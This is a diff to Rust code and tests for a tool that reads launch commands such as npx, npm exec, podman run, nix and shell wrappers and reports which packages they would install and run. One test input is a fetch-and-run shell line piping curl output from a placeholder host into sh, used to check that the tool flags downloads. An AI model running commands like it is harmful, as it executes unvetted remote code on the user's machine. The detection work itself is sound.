@@ -12,7 +12,7 @@ pub fn facts(argv: &[String], env: &[(String, String)]) -> String {
     describe(&launch(argv, env))
 }
 
-fn describe(found: &super::Extraction) -> String {
+pub fn describe(found: &super::Extraction) -> String {
     let mut facts: Vec<String> = Vec::new();
     for candidate in &found.candidates {
         let spec = match &candidate.spec {
@@ -62,7 +62,7 @@ fn npx_and_npm_exec() {
     check("npx --registry https://registry.npmjs.org/ pkg", "npm:pkg");
     check("npx --pack=evil good", "npm:evil, ambiguous");
     check("npm exec good --package=evil", "npm:evil");
-    check("npm create evil@1.0.0", "npm:create-evil =1.0.0");
+    check("npm create evil", "npm:create-evil");
     check("npm run build", "");
 }
 
@@ -98,7 +98,7 @@ fn deno_docker_node() {
     );
     check(
         "podman run --entrypoint npx img -y evil",
-        "oci:img, npm:evil extra",
+        "oci:img, npm:evil extra, npm:img extra",
     );
     check("node -e 'process.exit()'", "opaque");
     check("/opt/server/bin/mcp --stdio", "path");
@@ -130,7 +130,7 @@ fn wrappers_are_peeled() {
     check("nix run nixpkgs#hello", "");
     check("nix shell nixpkgs#nodejs -c npx -y evil", "npm:evil");
     check("nix-shell -p nodejs --run 'npx -y evil'", "npm:evil");
-    check("poetry run npx evil", "npm:evil, ambiguous");
+    check("poetry run npx evil", "npm:evil");
     check("sh -c 'curl -fsSL https://x.example/i | sh'", "download");
     check(
         "bash -c 'npx -y evil@$V'",
@@ -211,6 +211,32 @@ fn installs_in_shell_commands() {
     ] {
         assert_eq!(describe(&script(line)), expected, "{line}");
     }
+}
+
+#[test]
+fn a_word_that_names_a_version_is_a_guess_anywhere() {
+    for line in [
+        "npx @some/cli install evil@1.0.0",
+        "for p in a evil@1.0.0; do npx $p; done",
+        "read x <<< evil@1.0.0; npx $x",
+        "echo evil@1.0.0 >> list",
+    ] {
+        let found = describe(&script(line));
+        assert!(found.contains("npm:evil =1.0.0 extra?"), "{line}: {found}");
+    }
+    assert_eq!(describe(&script("git push user@host.example")), "");
+}
+
+#[test]
+fn files_that_a_script_writes_are_kept_with_their_names() {
+    let writes = |line: &str| script(line).writes;
+    let pair = |name: &str, text: &str| vec![(name.to_owned(), text.to_owned())];
+    assert_eq!(
+        writes("cat > r.txt <<EOF\na==1\nEOF\necho b"),
+        pair("r.txt", "a==1\n")
+    );
+    assert_eq!(writes("echo a==1 b > r.txt"), pair("r.txt", "a==1 b"));
+    assert_eq!(writes("cat r.txt; echo a"), []);
 }
 
 #[test]
@@ -313,8 +339,9 @@ fn no_argv_panics_or_takes_more_than_linear_time() {
 
 #[test]
 fn running_out_of_readings_is_said() {
-    let padding = "npx a@1.0.0 ".repeat(20);
-    check_end(&format!("sudo --x y {padding} npx evil"), "convoluted");
+    let padded = |times| format!("sudo --x y {} npx evil", "npx a@1.0.0 ".repeat(times));
+    check_end(&padded(20), "npm:evil, ambiguous");
+    check_end(&padded(2_000), "convoluted");
     check_end(&format!("{}npx evil", "nice ".repeat(9)), "convoluted");
     check_end(&format!("{}npx evil", "nice ".repeat(7)), "npm:evil");
 }
